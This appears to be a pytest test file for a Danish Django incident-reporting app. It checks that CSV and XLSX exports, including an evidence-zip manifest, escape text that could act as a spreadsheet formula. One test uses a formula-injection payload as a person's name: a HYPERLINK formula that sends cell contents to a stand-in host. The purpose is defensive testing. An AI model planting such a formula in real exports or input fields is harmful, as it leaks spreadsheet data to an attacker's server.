"""No file we write turns typed text into a formula: the evidence manifest and the helper every
CSV and XLSX goes through (core.inert)."""

import csv
import io
import random
import zipfile
from datetime import date, datetime, time

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests.factories import person
from tests.incidents.factories import make_incident
from tryghed.core import inert
from tryghed.demo.incidents import _png
from tryghed.incidents.models import Kind
from tryghed.organizations.roles import Role

STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", STARTS)
def test_a_csv_cell_that_could_be_a_formula_starts_with_an_apostrophe(start):
    assert inert.csv_cell(start + "SUM(A1:A9)") == "'" + start + "SUM(A1:A9)"


def test_numbers_dates_and_plain_text_are_written_as_they_are():
    assert inert.csv_cell(-3) == "-3"
    assert inert.csv_cell(2.5) == "2,5"
    assert inert.csv_cell(date(2026, 12, 5)) == "2026-12-05"
    assert inert.csv_cell(datetime(2026, 12, 5, 8, 30, 15)) == "2026-12-05 08:30"
    assert inert.csv_cell(time(8, 30)) == "08:30"
    assert inert.csv_cell(None) == ""
    assert inert.csv_cell("Skranken, 1. sal") == "Skranken, 1. sal"


def test_every_text_is_a_text_cell_in_the_xlsx():
    rows = [[start + "1+1", -3, date(2026, 12, 5)] for start in STARTS]
    sheet = load_workbook(io.BytesIO(inert.xlsx_bytes("Ark", ["a", "b", "c"], rows))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert [cell.data_type for cell in sheet["A"][1:]] == ["s"] * len(STARTS)
    # openpyxl leaves a carriage return escaped as Excel stores it (_x000D_); Excel reads it back.
    values = [cell.value.replace("_x000D_", "\r") for cell in sheet["A"][1:]]
    assert values == [start + "1+1" for start in STARTS]
    assert all(cell.data_type == "n" and cell.value == -3 for cell in sheet["B"][1:])
    assert all(cell.is_date for cell in sheet["C"][1:])
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:C7"


def test_the_evidence_manifest_holds_no_formula(client, tree, employee):
    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"klik")'
    securer = person(tree["own"], Role.EMPLOYEE, name=hostile, email="hostile@ishoj.example")
    incident = make_incident(employee, tree["own"], kind=Kind.ONLINE, affected=[securer])
    manager = person(tree["own"], Role.MANAGER, name="Lars Bøgh", email="lars@ishoj.example")
    client.force_login(securer)
    answer = client.post(
        reverse("incidents:add_evidence", args=[incident.pk]),
        {
            "file": SimpleUploadedFile("opslag.png", _png(random.Random(1))),
            "source_url": "https://facebook.com/ishoj/posts/1",
            "captured_at": timezone.localtime().strftime("%Y-%m-%dT%H:%M"),
        },
    )
    assert answer.status_code in (200, 302)
    assert incident.evidence.count() == 1
    client.force_login(manager)
    response = client.get(reverse("incidents:evidence_zip", args=[incident.pk]))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    text = archive.read("manifest.csv").decode("utf-8-sig")
    manifest = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert manifest[0][5] == "sikret af"
    assert manifest[1][5] == "'" + hostile
    assert not any(cell.startswith(tuple(STARTS)) for row in manifest for cell in row)
